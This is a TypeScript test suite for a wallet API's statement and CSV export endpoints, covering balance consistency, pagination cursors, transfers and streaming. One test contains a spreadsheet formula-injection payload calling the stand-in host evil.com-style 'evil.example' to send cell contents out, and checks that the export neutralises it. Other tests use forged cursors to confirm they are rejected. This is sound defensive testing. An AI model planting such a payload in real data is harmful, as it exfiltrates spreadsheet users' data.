// Statements: their balances and movements agree with each other, whatever is committed while they are read.
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { NewEvent, WalletEvent } from '../../src/domain/events.ts';
import { unwalledReads } from '../../src/eventStore/tenantReads.ts';
import { appendEvents, appendRows, unknownEvent } from '../support/appendEvents.ts';
import { createTestApi, get, post, type TestApi, testConfig } from '../support/api.ts';
import { createTestDatabase } from '../support/database.ts';
import { someTime, walletStream } from '../support/walletStream.ts';

let database: Awaited<ReturnType<typeof createTestDatabase>>;
let api: TestApi;
/** The statements that the API sent to PostgreSQL. */
let asked = 0;

beforeAll(async () => {
  database = await createTestDatabase();
  const config = testConfig(database.url);
  api = createTestApi(config);
  const { pool } = api;
  const counting = new Proxy(pool, {
    get: (target, name) => {
      if (name === 'query') asked += 1;
      const member: unknown = Reflect.get(target, name);
      return typeof member === 'function' ? (member.bind(target) as unknown) : member;
    },
  });
  counted = createTestApi(config, {}, { reads: unwalledReads(counting) });
});
afterAll(async () => {
  await Promise.all([api.close(), counted.close()]);
  await database.drop();
});
/** The same API, whose reads are counted. */
let counted: TestApi;

let wallets = 0;
const newWalletId = () => `wallet-${(wallets += 1)}`;
/** A wallet with these events, whose times the command side would not give. */
async function store(events: readonly NewEvent[]): Promise<void> {
  await appendEvents(api.pool, events);
  const last = events.at(-1);
  await api.pool.query(
    `insert into wallets (id, owner_id, currency, balance_minor, version, created_at, updated_at)
     values ($1, 'owner-1', 'USD', $2, $3, $4, $4)`,
    [last?.walletId, last?.event.balanceMinor, last?.version, last?.occurredAt],
  );
}
const at = (offsetMs: number) => new Date(someTime.getTime() + offsetMs).toISOString();

interface Movement {
  readonly version: number;
  readonly direction: 'in' | 'out';
  readonly amount: string;
  readonly balanceAfter: string;
  readonly [more: string]: unknown;
}
interface Statement {
  readonly opening: { readonly version: number; readonly balance: string };
  readonly closing: { readonly version: number; readonly balance: string };
  readonly totals: { readonly movements: number; readonly credits: string; readonly debits: string } | null;
  readonly movements: readonly Movement[];
  readonly nextCursor: string | null;
}
type Query = Readonly<Record<string, string>>;

async function page(walletId: string, query: Query = {}): Promise<Statement> {
  const search = new URLSearchParams(query).toString();
  const { status, body, text } = await get(api, `/v1/wallets/${walletId}/statement?${search}`);
  expect(status, text).toBe(200);
  return body as unknown as Statement;
}

/** All pages as one. Every page has to tell the same balances and totals. */
async function whole(walletId: string, query: Query, limit = '3'): Promise<Statement> {
  const first = await page(walletId, { ...query, limit });
  const movements = [...first.movements];
  let { nextCursor } = first;
  while (nextCursor !== null) {
    const next: Statement = await page(walletId, { ...query, limit, cursor: nextCursor });
    expect(next).toMatchObject({ opening: first.opening, closing: first.closing, totals: first.totals });
    movements.push(...next.movements);
    ({ nextCursor } = next);
  }
  return { ...first, movements, nextCursor: null };
}

async function csv(walletId: string, query: Query = {}): Promise<string> {
  const search = new URLSearchParams(query).toString();
  const response = await api.app.request(`/wallets/${walletId}/statement.csv?${search}`);
  const text = await response.text();
  expect(response.status, text).toBe(200);
  return text;
}

const minor = (amount: string) => BigInt(amount.replace('.', ''));

/** Fails unless each balance follows from the one before it, from the opening to the closing. */
function expectAgreement({ opening, closing, totals, movements }: Statement): void {
  let balance = minor(opening.balance);
  let [credits, debits] = [0n, 0n];
  for (const { direction, amount, balanceAfter } of movements) {
    if (direction === 'in') credits += minor(amount);
    else debits += minor(amount);
    balance += direction === 'in' ? minor(amount) : -minor(amount);
    expect(minor(balanceAfter)).toBe(balance);
  }
  expect(minor(closing.balance)).toBe(balance);
  expect(totals && [totals.movements, minor(totals.credits), minor(totals.debits)]).toEqual([
    movements.length,
    credits,
    debits,
  ]);
}

/** A history of one wallet: the change of its balance and the milliseconds since the step before. */
const histories = fc.record({
  initial: fc.bigInt(0n, 10n ** 17n),
  steps: fc.array(
    fc.record({ change: fc.bigInt(-(10n ** 17n), 10n ** 17n), ms: fc.constantFrom(-2, 0, 0, 1, 2, 5) }),
    { maxLength: 12 },
  ),
  cuts: fc.tuple(fc.integer({ min: -2, max: 20 }), fc.integer({ min: -2, max: 20 })),
});

function streamOf(walletId: string, initial: bigint, steps: readonly { change: bigint; ms: number }[]) {
  let [balanceMinor, offsetMs] = [initial, 0];
  const events: NewEvent[] = [...walletStream(walletId, initial)];
  for (const { change, ms } of steps) {
    const amountMinor = change < 0n ? (balanceMinor < -change ? balanceMinor : -change) : change;
    if (amountMinor === 0n) continue;
    balanceMinor += change < 0n ? -amountMinor : amountMinor;
    offsetMs += ms;
    const moved = { currency: 'USD', amountMinor, balanceMinor, description: '' };
    const event: WalletEvent = { type: change < 0n ? 'WalletDebited' : 'WalletCredited', ...moved };
    const occurredAt = new Date(someTime.getTime() + offsetMs);
    events.push({ walletId, version: events.length + 1, occurredAt, event });
  }
  return events;
}

describe('a statement', () => {
  it('agrees with itself and with those before and after it, for every history and every period', async () => {
    await fc.assert(
      fc.asyncProperty(histories, async ({ initial, steps, cuts }) => {
        const walletId = newWalletId();
        const events = streamOf(walletId, initial, steps);
        await store(events);
        const [from = '', to = ''] = cuts.toSorted((one, other) => one - other).map(at);
        const all = await whole(walletId, {});
        const parts = [
          await whole(walletId, { to: from }),
          await whole(walletId, { from, to }),
          await whole(walletId, { from: to }),
        ];
        for (const statement of [all, ...parts]) expectAgreement(statement);
        expect(parts.flatMap(({ movements }) => movements)).toEqual(all.movements);
        expect(parts.map(({ closing }) => closing).slice(0, -1)).toEqual(
          parts.map(({ opening }) => opening).slice(1),
        );
        expect(all.closing.version).toBe(events.length);
        const times = events.map(({ occurredAt }) => occurredAt.toISOString());
        if (times.toSorted().join() !== times.join()) return;
        // With times that never run backwards, a period has exactly the events between its bounds.
        const between = events.filter(
          (_, index) => (times[index] ?? '') >= from && (times[index] ?? '') < to && index > 0,
        );
        const versions = parts[1]?.movements.map(({ version }) => version).filter((version) => version > 1);
        expect(versions).toEqual(between.map(({ version }) => version));
      }),
      { numRuns: 40 },
    );
  });

  it('ends where its first page says, though commands are committed before its next page', async () => {
    const walletId = newWalletId();
    await post(api, '/wallets', { walletId, ownerId: 'owner-1', initialBalance: '10.00' });
    for (const amount of ['1.00', '2.00']) await post(api, `/wallets/${walletId}/credit`, { amount });
    const first = await page(walletId, { limit: '1' });
    await post(api, `/wallets/${walletId}/debit`, { amount: '5.00' });
    const movements = [...first.movements];
    let { nextCursor } = first;
    while (nextCursor !== null) {
      const next: Statement = await page(walletId, { limit: '1', cursor: nextCursor });
      movements.push(...next.movements);
      ({ nextCursor } = next);
    }
    expectAgreement({ ...first, movements });
    expect(first).toMatchObject({ closing: { version: 3, balance: '13.00' }, totals: { movements: 3 } });
    expect((await whole(walletId, {})).closing).toMatchObject({ version: 4, balance: '8.00' });
  });

  it('shows both sides of a transfer, each with the other one', async () => {
    const [a, b] = [newWalletId(), newWalletId()];
    for (const walletId of [a, b])
      await post(api, '/wallets', { walletId, ownerId: 'owner-1', initialBalance: '10.00' });
    const sent = { toWalletId: b, amount: '4.00', description: 'rent' };
    await post(api, `/wallets/${a}/transfer`, sent);
    const both = [...(await page(a)).movements.slice(1), ...(await page(b)).movements.slice(1)];
    const shared = { movementId: `${a}@2`, type: 'transfer', description: 'rent', amount: '4.00' };
    expect(both).toMatchObject([
      { ...shared, counterpart: b, direction: 'out', balanceAfter: '6.00' },
      { ...shared, counterpart: a, direction: 'in', balanceAfter: '14.00' },
    ]);
  });

  it('leaves out an empty beginning, and is empty before the wallet was there', async () => {
    const walletId = newWalletId();
    await store(walletStream(walletId, 0n, [5n]));
    expect(await page(walletId)).toMatchObject({ totals: { movements: 1 }, movements: [{ version: 2 }] });
    expect(await page(walletId, { to: at(0) })).toMatchObject({
      ...{ opening: { version: 0, balance: '0.00' }, closing: { version: 0, balance: '0.00' } },
      ...{ totals: { movements: 0, credits: '0.00', debits: '0.00' }, movements: [], nextCursor: null },
    });
  });

  it('is refused for a wallet that is not there, for a period that ends before it begins, and for cursors of others', async () => {
    const walletId = newWalletId();
    await store(walletStream(walletId, 1n, [1n, 1n]));
    const { nextCursor } = await page(walletId, { limit: '1' });
    const cursor = nextCursor ?? '';
    const forged = Buffer.from(JSON.stringify(['getStatement', { walletId }, '3.9.1.1'])).toString(
      'base64url',
    );
    const poor = Buffer.from(JSON.stringify(['getStatement', { walletId }, '3.1.1.0'])).toString('base64url');
    const refused = async (path: string) => {
      const { status, body } = await get(api, path);
      return [status, (body.errors as { parameter: string }[] | undefined)?.[0]?.parameter ?? body.code];
    };
    expect(await refused('/wallets/nobody/statement')).toEqual([404, 'WALLET_NOT_FOUND']);
    expect(await refused('/wallets/nobody/statement.csv')).toEqual([404, 'WALLET_NOT_FOUND']);
    const path = `/wallets/${walletId}/statement`;
    for (const file of ['', '.csv'])
      expect(await refused(`${path}${file}?from=${at(1)}&to=${at(0)}`)).toEqual([400, 'to']);
    expect(await refused(`${path}?from=${at(0)}&cursor=${cursor}`)).toEqual([400, 'cursor']);
    expect(await refused(`/wallets/${walletId}/events?cursor=${cursor}`)).toEqual([400, 'cursor']);
    for (const made of [forged, poor])
      expect(await refused(`${path}?cursor=${made}`)).toEqual([400, 'cursor']);
    expect(await refused(`${path}.csv?limit=5`)).toEqual([400, 'limit']);
  });

  it('with an event that this release cannot read is none', async () => {
    const walletId = newWalletId();
    await post(api, '/wallets', { walletId, ownerId: 'owner-1', initialBalance: '10.00' });
    await appendRows(api.pool, [unknownEvent(walletId, 2)]);
    await api.pool.query('update wallets set version = 2 where id = $1', [walletId]);
    for (const file of ['', '.csv'])
      expect(await get(api, `/wallets/${walletId}/statement${file}`)).toMatchObject({
        body: { code: 'EVENT_UNREADABLE' },
      });
    expect((await page(walletId, { to: at(0) })).movements).toEqual([]);
  });
});

describe('a statement as CSV', () => {
  it('has a head, the opening balance, each movement and the closing balance', async () => {
    const walletId = newWalletId();
    await store(walletStream(walletId, 90071992547409930n, [1n, 2n]));
    const file = await csv(walletId, { from: at(1), to: at(2) });
    expect(file).toBe(
      [
        'time,type,description,counterpart,in,out,balance,currency,movementId',
        `${at(1)},opening balance,,,,,900719925474099.30,USD,`,
        `${at(1)},credit,,,0.01,,900719925474099.31,USD,${walletId}@2`,
        `${at(2)},closing balance,1 movements; in 0.01; out 0.00; held 0.00; available 900719925474099.31,,,,900719925474099.31,USD,`,
        '',
      ].join('\r\n'),
    );
  });

  it('never lets a spreadsheet run what a caller wrote', async () => {
    const walletId = newWalletId();
    await post(api, '/wallets', { walletId, ownerId: 'owner-1', initialBalance: '0' });
    const description = '=HYPERLINK("http://evil.example?"&A1,"pay, now")';
    await post(api, `/wallets/${walletId}/credit`, { amount: '1.00', description });
    expect(await csv(walletId)).toContain(
      `,credit,"'=HYPERLINK(""http://evil.example?""&A1,""pay, now"")",,1.00,,1.00,USD,`,
    );
  });

  it('is a file with a name, which no cache keeps, also for Accept: text/csv', async () => {
    const walletId = 'shop:1';
    await store(walletStream(walletId, 1n));
    const query = `from=${at(0)}`;
    const answers = [
      await api.app.request(`/v1/wallets/${walletId}/statement.csv?${query}`),
      await api.app.request(`/wallets/${walletId}/statement?${query}`, { headers: { accept: 'text/csv' } }),
    ];
    for (const { headers } of answers)
      expect(Object.fromEntries(headers)).toMatchObject({
        'content-type': 'text/csv; charset=utf-8; header=present',
        'content-disposition': 'attachment; filename="statement-shop_1-2026-01-02.csv"',
        'cache-control': 'no-store',
        vary: expect.stringContaining('Accept') as unknown,
      });
    const [one, other] = await Promise.all(answers.map((answer) => answer.text()));
    expect(one).toBe(other);
  });

  it('is read while it is sent, and ends where it began, though commands are committed meanwhile', async () => {
    const walletId = newWalletId();
    await store(walletStream(walletId, 1n, Array<bigint>(2_500).fill(1n)));
    const { body } = await counted.app.request(`/wallets/${walletId}/statement.csv`);
    const reader = body?.getReader();
    const before = asked;
    const pieces = [(await reader?.read())?.value];
    expect(asked).toBe(before);
    await post(api, `/wallets/${walletId}/credit`, { amount: '5.00' });
    for (;;) {
      const piece = await reader?.read();
      if (piece?.done !== false) break;
      pieces.push(piece.value);
    }
    expect(pieces.length).toBe(3);
    const lines = Buffer.concat(pieces as Uint8Array[])
      .toString()
      .split('\r\n');
    expect(lines.length).toBe(2_505);
    expect(lines.at(-2)).toContain(
      'closing balance,2501 movements; in 25.01; out 0.00; held 0.00; available 25.01,,,,25.01,USD,',
    );
  });
});
